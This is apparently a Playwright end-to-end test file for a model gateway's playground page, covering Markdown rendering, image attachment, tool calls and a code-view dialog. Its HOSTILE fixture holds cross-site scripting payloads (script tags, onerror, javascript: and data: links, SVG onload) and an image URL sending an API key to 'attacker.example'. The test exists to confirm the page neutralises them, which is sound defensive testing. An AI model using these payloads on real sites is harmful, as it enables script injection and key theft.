import { simulatedCatalog } from '@model-gateway/test-kit';
import type { Page } from 'playwright-core';
import { describe, expect, it } from 'vitest';
import { z } from 'zod';
import { inPage, newPerson, signUpUnseen } from './act.ts';
import { expectLayout, seriousViolations, switchDisplay } from './every-page.ts';
import { NO_BROWSER, PHONE, type Visitor, withBrowser } from './open-browser.ts';
import { POLL } from './timeouts.ts';

const MARKDOWN = `# Title

Some **bold** text with \`code\` and [a link](https://example.com/page).

- first
- second

| name | value |
| ---- | ----- |
| one  | 1     |

\`\`\`js
const answer = 42;
\`\`\`
`;

/** Output of a hostile model, or of one that quotes a hostile page. */
const HOSTILE = `<script>window.attacked = true</script>
<img src=x onerror="window.attacked = true">
<iframe src="https://attacker.example/frame"></iframe>
<a href="javascript:window.attacked = true" onclick="window.attacked = true">raw</a>

[script](javascript:window.attacked=true) [data](data:text/html,<script>window.attacked=true</script>)
[vbscript](vbscript:attack) <javascript:window.attacked=true>

![secret](https://attacker.example/steal?key=gw_live) ![inline](data:image/svg+xml,<svg onload=alert(1)>)

Finished.`;

/** A red picture of one pixel. */
const PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==',
  'base64',
);

describe.skipIf(NO_BROWSER !== undefined)('the playground', () => {
  const site = withBrowser(() => ({
    dashboard: true,
    document: (baseUrl) => {
      const { models, providers } = simulatedCatalog(baseUrl);
      return {
        providers,
        models: models.map((model) =>
          model.id === 'sim/chat-free' ? { ...model, input_modalities: ['text', 'image'] } : model,
        ),
      };
    },
  }));

  async function open(visitor: Visitor): Promise<void> {
    const { page } = visitor;
    await signUpUnseen(visitor, newPerson());
    await page.goto('/dashboard/playground');
    await page.getByRole('textbox', { name: 'Message' }).waitFor();
  }

  const conversation = (page: Page) => page.getByRole('region', { name: 'Conversation' });

  /** The page requests the receipt until it exists. */
  const problemsOf = ({ problems }: Visitor) =>
    problems.filter((problem) => !/ 404 .*\/api\/requests\/req_/.test(problem));

  it('renders Markdown, with headings below those of the page', async () => {
    await using visitor = await site.browser.visit();
    const { page } = visitor;
    await open(visitor);
    site.gateway.provider.script({ content: MARKDOWN });
    await ask(page, 'Show me Markdown.');
    const answer = conversation(page);
    await answer.getByRole('heading', { name: 'Title', level: 3 }).waitFor();
    await answer.getByRole('cell', { name: 'one' }).waitFor();
    expect(await answer.getByRole('listitem').allTextContents()).toEqual(['first', 'second']);
    expect(await answer.locator('strong').textContent()).toBe('bold');
    const link = answer.getByRole('link', { name: 'a link' });
    expect(await link.getAttribute('rel')).toBe('noopener noreferrer nofollow');
    expect(await link.getAttribute('target')).toBe('_blank');
    await answer.getByRole('button', { name: 'Copy code' }).click();
    await answer.getByRole('button', { name: 'Copied' }).waitFor();
    const copied = await inPage(page, 'navigator.clipboard.readText()', z.string());
    expect(copied.trim()).toBe('const answer = 42;');
    expect(problemsOf(visitor)).toEqual([]);
    expect(await seriousViolations(page)).toEqual([]);
    await switchDisplay(visitor, { viewport: PHONE, scheme: 'dark' });
    expect(await seriousViolations(page)).toEqual([]);
    await expectLayout(visitor, 'Markdown on a phone');
  });

  it('runs no script, opens no script link and loads no image that a model names', async () => {
    await using visitor = await site.browser.visit();
    const { page } = visitor;
    await open(visitor);
    site.gateway.provider.script({ content: HOSTILE });
    await ask(page, 'Attack me.');
    const answer = conversation(page).locator('[aria-busy]');
    await answer.getByText('Finished.').waitFor();
    // The raw HTML is there, as text.
    await answer.getByText('<script>window.attacked = true</script>').waitFor();
    await expect.poll(() => answer.locator('em, p a').count(), POLL).toBeGreaterThan(0);
    expect(await answer.locator('img, script, iframe, svg[onload]').count()).toBe(0);
    const targets = await inPage(
      page,
      `[...document.querySelectorAll('[aria-busy] p a')].map((link) => link.getAttribute('href'))`,
      z.array(z.string()),
    );
    expect(targets).toEqual(['https://attacker.example/steal?key=gw_live']);
    for (const name of ['script', 'data', 'vbscript'])
      await answer.getByText(name, { exact: false }).first().click();
    expect(await inPage(page, 'window.attacked === undefined', z.boolean())).toBe(true);
    // Includes requests to other origins.
    expect(problemsOf(visitor)).toEqual([]);
  });

  it.each([
    ['thousands of nested quotes', `${'>'.repeat(5_000)} deep`, '> deep'],
    [
      'a table of hundreds of columns',
      `${'|a'.repeat(400)}|\n${'|-'.repeat(400)}|\n${'x\n'.repeat(2_000)}`,
      '|a|a',
    ],
  ])('shows %s as they are, and stays usable', async (_, content, shown) => {
    await using visitor = await site.browser.visit();
    const { page } = visitor;
    await open(visitor);
    site.gateway.provider.script({ content });
    await ask(page, 'Break the page.');
    await conversation(page).getByText(shown).first().waitFor();
    await conversation(page).getByRole('link', { name: 'Receipt' }).waitFor();
    site.gateway.provider.script({ content: 'Still **here**.' });
    await ask(page, 'And now?');
    await conversation(page).locator('strong').waitFor();
  });

  it('refuses an image of another origin by its content security policy', async () => {
    await using visitor = await site.browser.visit();
    const { page } = visitor;
    await open(visitor);
    const outcome = await inPage(
      page,
      `new Promise((resolve) => {
        const picture = new Image();
        picture.onload = () => resolve('loaded');
        picture.onerror = () => resolve('refused');
        picture.src = ${JSON.stringify(`${site.gateway.baseUrl}/favicon.ico`)};
      })`,
      z.string(),
    );
    expect(outcome).toBe('refused');
    expect(visitor.problems.join()).toContain('img-src');
  });

  it('sends attached images and shows them', async () => {
    await using visitor = await site.browser.visit();
    const { page } = visitor;
    await open(visitor);
    const choose = page.locator('input[type=file]');
    await choose.setInputFiles({ name: 'notes.txt', mimeType: 'text/plain', buffer: Buffer.from('no') });
    await page.getByText('notes.txt is no PNG, JPEG, WebP or GIF image.').waitFor();
    await choose.setInputFiles({ name: 'red.png', mimeType: 'image/png', buffer: PNG });
    await page.getByRole('img', { name: 'red.png' }).waitFor();
    await page.getByRole('button', { name: 'Remove red.png' }).click();
    expect(await page.getByRole('img', { name: 'red.png' }).count()).toBe(0);
    await choose.setInputFiles({ name: 'red.png', mimeType: 'image/png', buffer: PNG });
    await page.getByLabel('Model', { exact: true }).selectOption('sim/chat-pro');
    await page.getByText('This model reads no images.').waitFor();
    expect(await page.getByRole('button', { name: 'Send' }).isDisabled()).toBe(true);
    await page.getByLabel('Model', { exact: true }).selectOption('sim/chat-free');
    const url = `data:image/png;base64,${PNG.toString('base64')}`;
    const sent = site.gateway.provider.waitForRequest(({ bodyText }) => bodyText.includes(url));
    await ask(page, 'What is in this picture?');
    expect(JSON.parse((await sent).bodyText).messages).toEqual([
      {
        role: 'user',
        content: [
          { type: 'text', text: 'What is in this picture?' },
          { type: 'image_url', image_url: { url } },
        ],
      },
    ]);
    await conversation(page).getByRole('img', { name: 'red.png' }).waitFor();
    await conversation(page).getByRole('link', { name: 'Receipt' }).waitFor();
    expect(await page.getByRole('button', { name: 'Remove red.png' }).count()).toBe(0);
    expect(problemsOf(visitor)).toEqual([]);
  });

  it('shows the call of a tool, sends its result, and shows the code of the request', async () => {
    await using visitor = await site.browser.visit();
    const { page } = visitor;
    await open(visitor);
    await page.getByLabel('Tools').fill('[{');
    await page.getByText('This is not JSON').waitFor();
    await page.getByText('Correct the settings first.').waitFor();
    expect(await page.getByRole('button', { name: 'View code' }).isDisabled()).toBe(true);
    await page.getByLabel('Tools').fill('');
    await page.getByRole('button', { name: 'Insert an example tool' }).click();
    await ask(page, 'use get_weather: {"city":"Rome"}');
    const calls = conversation(page).getByRole('form', { name: 'Tool calls' });
    await calls.getByText('Calls the tool get_weather').waitFor();
    await calls.getByText('"city": "Rome"').waitFor();
    const sent = site.gateway.provider.waitForRequest(({ bodyText }) => bodyText.includes('sunny, 30'));
    await calls.getByLabel('Result of get_weather').fill('sunny, 30 degrees');
    await calls.getByRole('button', { name: 'Send the result' }).click();
    const { messages, tools } = JSON.parse((await sent).bodyText);
    expect(tools).toMatchObject([{ function: { name: 'get_weather' } }]);
    expect(messages).toMatchObject([
      { role: 'user', content: 'use get_weather: {"city":"Rome"}' },
      {
        role: 'assistant',
        tool_calls: [{ function: { name: 'get_weather', arguments: '{"city":"Rome"}' } }],
      },
      { role: 'tool', content: 'sunny, 30 degrees' },
    ]);
    await expect.poll(() => conversation(page).getByRole('link', { name: 'Receipt' }).count(), POLL).toBe(2);

    await page.getByRole('button', { name: 'View code' }).click();
    const dialog = page.getByRole('dialog');
    const code = () => dialog.getByRole('tabpanel').locator('pre').first().textContent();
    expect(await code()).toContain(`curl '${site.gateway.baseUrl}/v1/chat/completions'`);
    for (const part of ['"Authorization: Bearer $GATEWAY_API_KEY"', 'sunny, 30 degrees', '"get_weather"'])
      expect(await code()).toContain(part);
    await dialog.getByRole('tab', { name: 'Python' }).click();
    await dialog.getByText('stream=True').waitFor();
    await dialog.getByRole('tab', { name: 'TypeScript' }).click();
    await dialog.getByText('process.env.GATEWAY_API_KEY').waitFor();
    expect(problemsOf(visitor)).toEqual([]);
    expect(await seriousViolations(page)).toEqual([]);
    await page.keyboard.press('Escape');
    await dialog.waitFor({ state: 'hidden' });
    expect(await seriousViolations(page)).toEqual([]);
  });
});

async function ask(page: Page, question: string): Promise<void> {
  await page.getByRole('textbox', { name: 'Message' }).fill(question);
  await page.keyboard.press('Enter');
}
